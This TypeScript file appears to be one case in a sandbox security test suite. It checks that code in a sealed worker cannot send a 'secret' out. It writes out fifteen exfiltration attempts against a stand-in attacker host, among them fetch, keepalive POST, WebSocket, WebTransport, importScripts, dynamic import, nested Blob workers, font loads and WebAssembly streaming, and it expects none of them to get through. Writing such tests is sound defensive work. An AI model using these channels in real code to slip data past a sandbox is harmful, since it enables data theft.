import type { Attack } from '../attack.ts';
import { same } from '../expect.ts';

export const attack: Attack = {
  id: '150',
  group: 'card',
  only: 'sealed',
  title: 'carry data out of a card’s worker: fetch, sockets, importScripts, import(), nested workers, transports',
  expected: '0 hits; even a declared host is out of reach',
  heardOnAnOrdinaryPage: true,
  card: {
    async out({ evil, pause }) {
      const at = (how: string): string => `${evil}/150/${how}?secret`;
      const script = (code: string): string => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
      const inner = `fetch(${JSON.stringify(at('nested-fetch'))},{mode:'no-cors'}).catch(()=>0);try{importScripts(${JSON.stringify(at('nested-import'))})}catch{}`;
      const load: unknown = Reflect.get(self, 'importScripts');
      const tries: Readonly<Record<string, () => unknown>> = {
        fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
        keepalive: () => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
        declared: () => fetch('https://open.attacklab.example/150/declared', { mode: 'no-cors' }),
        request: () => {
          const request = new XMLHttpRequest();
          request.open('GET', at('xhr'));
          request.send();
        },
        socket: () => new WebSocket(at('socket').replace('http', 'ws')),
        stream: () => Reflect.construct(Reflect.get(self, 'WebSocketStream'), [at('stream').replace('http', 'ws')]),
        events: () => new EventSource(at('events')),
        transport: () => new WebTransport(at('transport').replace('http:', 'https:')).ready,
        importScripts: () => typeof load === 'function' && load(at('import-scripts')),
        import: () => import(/* @vite-ignore */ at('import')),
        nested: () => new Worker(script(inner)),
        nestedModule: () => new Worker(script(`import ${JSON.stringify(at('nested-module'))}`), { type: 'module' }),
        font: () => new FontFace('x', `url(${at('font')})`).load(),
        streaming: () => WebAssembly.compileStreaming(fetch(at('wasm'))),
        peer: () => new RTCPeerConnection(),
      };
      const outcomes: Record<string, string> = {};
      for (const [name, go] of Object.entries(tries)) {
        try {
          outcomes[name] = 'tried';
          const result = go();
          if (result instanceof Promise) result.catch(() => null);
        } catch (error) {
          outcomes[name] = error instanceof Error || error instanceof DOMException ? error.name : 'threw';
        }
      }
      await pause(800);
      return outcomes;
    },
  },
  async judge({ openCard, world }) {
    const { run } = await openCard();
    const outcomes = (await run('out')) ?? {};
    same(Object.keys(outcomes).length, 15, 'ways tried');
    const declared = world.openHost.requests().filter(({ path }) => path.startsWith('/150/'));
    same(declared.length, 0, 'requests to the host that the app itself may ask');
  },
};
